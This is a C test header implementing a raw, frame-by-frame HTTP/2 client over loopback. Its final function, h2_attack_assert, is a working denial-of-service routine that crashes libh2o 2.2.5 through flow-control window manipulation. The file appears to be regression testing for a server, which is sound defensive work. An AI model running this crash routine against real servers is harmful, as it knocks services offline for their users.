/* SPDX-License-Identifier: MIT */
/*
 * h2_raw - an HTTP/2 client that says what it is told to say, frame by frame, right or wrong; and
 * the attacks that are built from it. Cleartext, prior knowledge, loopback. Everything is bounded:
 * in bytes, in rounds and in waiting.
 */
#ifndef BRIM_TESTS_H2_RAW_H
#define BRIM_TESTS_H2_RAW_H

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum h2_raw_type {
    H2_DATA = 0,
    H2_HEADERS = 1,
    H2_PRIORITY = 2,
    H2_RST_STREAM = 3,
    H2_SETTINGS = 4,
    H2_PUSH_PROMISE = 5,
    H2_PING = 6,
    H2_GOAWAY = 7,
    H2_WINDOW_UPDATE = 8,
    H2_CONTINUATION = 9,
};

enum { H2_END_STREAM = 0x1, H2_ACK = 0x1, H2_END_HEADERS = 0x4, H2_PRIORITIZED = 0x20 };

#define H2_RAW_OUT_BYTES 65536u
#define H2_RAW_WAIT_MS   30000 /* longer than anything takes: only a failed test waits so long */

struct h2_raw {
    int fd;
    bool closed; /* the peer closed or reset */
    uint32_t next_stream;
    size_t out_len;
    uint8_t out[H2_RAW_OUT_BYTES];
    size_t in_len;
    size_t in_used; /* of it: the frame handed out last */
    uint8_t in[32768];
};

struct h2_raw_frame {
    uint32_t stream;
    uint32_t len;
    uint8_t type;
    uint8_t flags;
    const uint8_t *payload; /* valid until the next read */
};

/* Connects; receive_bytes 0 leaves the receive buffer alone. Returns -1 if nobody listens. */
static inline int h2_raw_dial(uint16_t port, int receive_bytes)
{
    struct sockaddr_in address = {
        .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK), .sin_port = htons(port)};
    int on = 1;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    if (fd == -1)
        return -1;
    if (receive_bytes > 0)
        (void)setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &receive_bytes, sizeof(receive_bytes));
    (void)setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
    if (connect(fd, (struct sockaddr *)&address, sizeof(address)) != 0) {
        close(fd);
        return -1;
    }
    return fd;
}

/* Sends what is buffered, waiting at most wait_ms for room; false if it did not all leave. */
static inline bool h2_raw_flush_within(struct h2_raw *raw, int wait_ms)
{
    size_t sent = 0;

    while (sent < raw->out_len && !raw->closed) {
        ssize_t n =
            send(raw->fd, raw->out + sent, raw->out_len - sent, MSG_NOSIGNAL | MSG_DONTWAIT);
        struct pollfd ready = {raw->fd, POLLOUT, 0};

        if (n > 0)
            sent += (size_t)n;
        else if (n == -1 && errno == EAGAIN && poll(&ready, 1, wait_ms) == 1)
            continue;
        else if (n == -1 && errno == EAGAIN)
            break;
        else
            raw->closed = true;
    }
    raw->out_len -= sent;
    memmove(raw->out, raw->out + sent, raw->out_len);
    return raw->out_len == 0 && !raw->closed;
}

static inline bool h2_raw_flush(struct h2_raw *raw)
{
    return h2_raw_flush_within(raw, H2_RAW_WAIT_MS);
}

static inline void h2_raw_bytes(struct h2_raw *raw, const void *bytes, size_t len)
{
    if (raw->closed || len > H2_RAW_OUT_BYTES)
        return;
    if (raw->out_len + len > H2_RAW_OUT_BYTES && !h2_raw_flush(raw)) {
        raw->closed = true;
        return;
    }
    memcpy(raw->out + raw->out_len, bytes, len);
    raw->out_len += len;
}

static inline void h2_raw_put32(uint8_t *out, uint32_t value)
{
    out[0] = (uint8_t)(value >> 24);
    out[1] = (uint8_t)(value >> 16);
    out[2] = (uint8_t)(value >> 8);
    out[3] = (uint8_t)value;
}

static inline uint32_t h2_raw_get32(const uint8_t *in)
{
    return (uint32_t)in[0] << 24 | (uint32_t)in[1] << 16 | (uint32_t)in[2] << 8 | in[3];
}

/* Buffers one frame; head: type, flags, stream, len of the payload. */
static inline void h2_raw_frame(struct h2_raw *raw, struct h2_raw_frame head)
{
    uint8_t bytes[9];

    h2_raw_put32(bytes, head.len << 8 | head.type);
    bytes[4] = head.flags;
    h2_raw_put32(bytes + 5, head.stream);
    h2_raw_bytes(raw, bytes, sizeof(bytes));
    if (head.len > 0)
        h2_raw_bytes(raw, head.payload, head.len);
}

static inline void h2_raw_word(struct h2_raw *raw, enum h2_raw_type type, uint32_t stream,
                               uint32_t word)
{
    uint8_t payload[4];

    h2_raw_put32(payload, word);
    h2_raw_frame(raw, (struct h2_raw_frame){stream, 4, (uint8_t)type, 0, payload});
}

static inline void h2_raw_setting(struct h2_raw *raw, uint16_t id, uint32_t value)
{
    uint8_t payload[6] = {(uint8_t)(id >> 8), (uint8_t)id};

    h2_raw_put32(payload + 2, value);
    h2_raw_frame(raw, (struct h2_raw_frame){0, 6, H2_SETTINGS, 0, payload});
}

static inline void h2_raw_ping(struct h2_raw *raw)
{
    static const uint8_t payload[8] = {0};

    h2_raw_frame(raw, (struct h2_raw_frame){0, 8, H2_PING, 0, payload});
}

/* HPACK of GET http://a PATH, nothing indexed; path of at most 100 bytes. Returns its length. */
static inline uint32_t h2_raw_block(uint8_t *block, const char *method, const char *path)
{
    size_t method_len = strlen(method), path_len = strlen(path), n = 0;

    block[n++] = 0x02; /* :method, literal */
    block[n++] = (uint8_t)method_len;
    memcpy(block + n, method, method_len);
    n += method_len;
    block[n++] = 0x86; /* :scheme http */
    block[n++] = 0x04; /* :path, literal */
    block[n++] = (uint8_t)path_len;
    memcpy(block + n, path, path_len);
    n += path_len;
    block[n++] = 0x01; /* :authority, literal */
    block[n++] = 1;
    block[n++] = 'a';
    return (uint32_t)n;
}

/* Buffers a request on the next stream and returns its number. */
static inline uint32_t h2_raw_request(struct h2_raw *raw, const char *method, const char *path,
                                      uint8_t flags)
{
    uint8_t block[256];
    uint32_t stream = raw->next_stream;
    uint32_t len = h2_raw_block(block, method, path);

    raw->next_stream += 2;
    h2_raw_frame(raw, (struct h2_raw_frame){stream, len, H2_HEADERS, flags, block});
    return stream;
}

static inline uint32_t h2_raw_get(struct h2_raw *raw, const char *path)
{
    return h2_raw_request(raw, "GET", path, H2_END_STREAM | H2_END_HEADERS);
}

/* Connects and buffers the preface with initial_window for responses. */
static inline bool h2_raw_open(struct h2_raw *raw, uint16_t port, uint32_t initial_window,
                               int receive_bytes)
{
    memset(raw, 0, sizeof(*raw));
    raw->fd = h2_raw_dial(port, receive_bytes);
    raw->next_stream = 1;
    raw->closed = raw->fd == -1;
    if (raw->closed)
        return false;
    h2_raw_bytes(raw, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    h2_raw_setting(raw, 4, initial_window);
    h2_raw_word(raw, H2_WINDOW_UPDATE, 0, 1u << 30);
    return true;
}

static inline void h2_raw_close(struct h2_raw *raw)
{
    if (raw->fd != -1)
        close(raw->fd);
    raw->fd = -1;
}

/* Reads the next frame, waiting at most wait_ms; false at the end, or if none came. */
static inline bool h2_raw_read(struct h2_raw *raw, struct h2_raw_frame *frame_out, int wait_ms)
{
    uint32_t head;

    raw->in_len -= raw->in_used;
    memmove(raw->in, raw->in + raw->in_used, raw->in_len);
    raw->in_used = 0;
    for (;;) {
        struct pollfd ready = {raw->fd, POLLIN, 0};
        ssize_t n;

        if (raw->in_len >= 9) {
            head = h2_raw_get32(raw->in);
            if (raw->in_len >= 9 + (head >> 8))
                break;
        }
        if (poll(&ready, 1, wait_ms) != 1)
            return false;
        n = recv(raw->fd, raw->in + raw->in_len, sizeof(raw->in) - raw->in_len, 0);
        if (n <= 0) {
            raw->closed = true;
            return false;
        }
        raw->in_len += (size_t)n;
    }
    raw->in_used = 9 + (head >> 8);
    *frame_out = (struct h2_raw_frame){.len = head >> 8,
                                       .type = (uint8_t)head,
                                       .flags = raw->in[4],
                                       .stream = h2_raw_get32(raw->in + 5),
                                       .payload = raw->in + 9};
    return true;
}

/* Waits until the stream ends; true if it ended with END_STREAM. */
static inline bool h2_raw_finish(struct h2_raw *raw, uint32_t stream)
{
    struct h2_raw_frame frame;

    while (h2_raw_read(raw, &frame, H2_RAW_WAIT_MS)) {
        if (frame.stream != stream)
            continue;
        if (frame.type == H2_RST_STREAM)
            return false;
        if ((frame.type == H2_DATA || frame.type == H2_HEADERS) && frame.flags & H2_END_STREAM)
            return true;
    }
    return false;
}

/* Discards what arrives until the peer closes; false if it did not within wait_ms of silence. */
static inline bool h2_raw_drained(struct h2_raw *raw, int wait_ms)
{
    uint8_t sink[16384];
    struct pollfd ready = {raw->fd, POLLIN, 0};

    while (!raw->closed && poll(&ready, 1, wait_ms) == 1)
        if (recv(raw->fd, sink, sizeof(sink), 0) <= 0)
            raw->closed = true;
    return raw->closed;
}

/* Gives the peer up to wait_ms to hang up, reading nothing. */
static inline bool h2_raw_is_hung_up(struct h2_raw *raw, int wait_ms)
{
    struct pollfd ready = {raw->fd, POLLRDHUP, 0};

    if (poll(&ready, 1, wait_ms) == 1)
        raw->closed = true;
    return raw->closed;
}

/* Whether the server at port answers a plain request on a new connection. */
static inline bool h2_raw_is_alive(uint16_t port)
{
    static struct h2_raw raw; /* too big for a stack */
    bool alive;

    if (!h2_raw_open(&raw, port, 65535, 0))
        return false;
    (void)h2_raw_get(&raw, "/");
    alive = h2_raw_flush(&raw) && h2_raw_finish(&raw, 1);
    h2_raw_close(&raw);
    return alive;
}

enum h2_attack_assert { H2_ASSERT_WINDOW, H2_ASSERT_SETTINGS };

/*
 * Responses of exactly the size of the stream's window, and nobody reads: soon a write blocks while
 * the streams whose last byte it carries wait for it with a window of 0. Opening that window by one
 * byte, with WINDOW_UPDATE or with SETTINGS, makes libh2o 2.2.5 schedule a stream that is already
 * linked elsewhere: assert, abort. `path` must answer with body_bytes bytes.
 */
static inline void h2_attack_assert(uint16_t port, const char *path, uint32_t body_bytes,
                                    enum h2_attack_assert how)
{
    static struct h2_raw raw;
    enum { ROUNDS = 100, BURST = 50, OPENED_AGAIN = 200 };

    if (!h2_raw_open(&raw, port, body_bytes, 4096))
        return;
    for (int round = 0; round < ROUNDS; round++) {
        uint32_t first =
            raw.next_stream > 2 * OPENED_AGAIN ? raw.next_stream - 2 * OPENED_AGAIN : 1;

        for (int i = 0; i < BURST; i++)
            (void)h2_raw_get(&raw, path);
        if (!h2_raw_flush_within(&raw, 100) || h2_raw_is_hung_up(&raw, 5))
            break;
        if (how == H2_ASSERT_SETTINGS) {
            h2_raw_setting(&raw, 4, body_bytes + 1);
            h2_raw_setting(&raw, 4, body_bytes);
        } else {
            for (uint32_t stream = first; stream < raw.next_stream; stream += 2)
                h2_raw_word(&raw, H2_WINDOW_UPDATE, stream, 1);
        }
        if (!h2_raw_flush_within(&raw, 100) || h2_raw_is_hung_up(&raw, 5))
            break;
    }
    h2_raw_close(&raw);
}

#endif
